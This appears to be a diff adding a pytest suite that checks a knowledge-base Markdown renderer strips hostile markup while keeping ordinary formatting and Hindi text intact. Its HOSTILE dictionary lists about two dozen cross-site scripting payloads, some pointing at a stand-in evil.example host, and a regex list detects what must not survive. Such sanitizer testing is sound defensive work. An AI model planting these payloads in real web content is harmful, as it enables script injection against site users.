@@ -1,0 +1,85 @@
+"""kb.markdown: the single function that turns user Markdown into HTML must never let script through."""
+import re
+
+import pytest
+
+from kb.markdown import markdown_to_text, render_markdown
+
+HOSTILE = {
+    "script tag": "<script>alert(1)</script>",
+    "script in markdown paragraph": "Hello <script src=https://evil.example/x.js></script> world",
+    "img onerror": '<img src=x onerror="alert(1)">',
+    "svg onload": "<svg onload=alert(1)><circle r=10></circle></svg>",
+    "body onload": "<body onload=alert(1)>text</body>",
+    "javascript link (markdown)": "[click](javascript:alert(1))",
+    "javascript link with entities": "[click](jav&#x61;script:alert(1))",
+    "javascript link with tab": "<a href=\"java\tscript:alert(1)\">x</a>",
+    "javascript link upper case": '<a href="JaVaScRiPt:alert(1)">x</a>',
+    "data url link": "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
+    "data url image": "![x](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
+    "iframe": '<iframe src="https://evil.example"></iframe>',
+    "style tag": "<style>body{background:url(javascript:alert(1))}</style>",
+    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
+    "form": '<form action="https://evil.example"><input name=p><button>go</button></form>',
+    "object/embed": '<object data="x.swf"></object><embed src="x.swf">',
+    "meta refresh": '<meta http-equiv="refresh" content="0;url=https://evil.example">',
+    "nested script obfuscation": "<scr<script>ipt>alert(1)</scr</script>ipt>",
+    "html comment hiding script": "<!--<script>alert(1)</script>-->",
+    "onmouseover on allowed tag": '<a href="https://ok.example" onmouseover="alert(1)">x</a>',
+    "vbscript url": '<a href="vbscript:msgbox(1)">x</a>',
+    "null byte in tag": "<scr\x00ipt>alert(1)</scr\x00ipt>",
+    "base tag": '<base href="https://evil.example/">',
+    "link stylesheet": '<link rel="stylesheet" href="https://evil.example/x.css">',
+    "srcdoc": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
+    "formaction on button": '<button formaction="javascript:alert(1)">x</button>',
+}
+
+FORBIDDEN = [
+    re.compile(r"<\s*(script|iframe|style|form|object|embed|meta|base|link|svg|body|input|button)\b", re.I),
+    re.compile(r"\son\w+\s*=", re.I),
+    re.compile(r"(javascript|vbscript|data):", re.I),
+    re.compile(r"\sstyle\s*=", re.I),
+    re.compile(r"\sformaction\s*=", re.I),
+]
+
+
+@pytest.mark.parametrize("payload", HOSTILE.values(), ids=HOSTILE.keys())
+def test_hostile_markup_never_survives(payload):
+    html = str(render_markdown(payload))
+    for pattern in FORBIDDEN:
+        assert not pattern.search(html), f"{pattern.pattern!r} survived in {html!r}"
+
+
+def test_at_least_fifteen_hostile_inputs_are_covered():
+    assert len(HOSTILE) >= 15
+
+
+def test_ordinary_markdown_keeps_its_structure():
+    html = str(render_markdown(
+        "## Impact\n\nWaiting fell **sharply**.\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n"
+        "- one\n- two\n\n[report](https://example.org/r)"
+    ))
+    assert "<h2>Impact</h2>" in html
+    assert "<strong>sharply</strong>" in html
+    assert "<table>" in html and "<td>1</td>" in html
+    assert "<li>one</li>" in html
+    assert '<a href="https://example.org/r" rel="nofollow noopener noreferrer">report</a>' in html
+
+
+def test_text_of_a_script_is_dropped_not_shown():
+    assert "alert" not in str(render_markdown("<script>alert(1)</script>after"))
+
+
+def test_hindi_text_passes_through_unchanged():
+    text = "## समस्या\n\nभूमि अभिलेखों का डिजिटलीकरण।"
+    html = str(render_markdown(text))
+    assert "<h2>समस्या</h2>" in html
+    assert "भूमि अभिलेखों का डिजिटलीकरण।" in html
+
+
+def test_markdown_to_text_strips_markup_and_scripts():
+    assert markdown_to_text("## Title\n\nSome *text* <script>x()</script> &amp; more") == "Title Some text & more"
+
+
+def test_empty_input_renders_empty():
+    assert str(render_markdown("")) == "" and str(render_markdown(None)) == ""
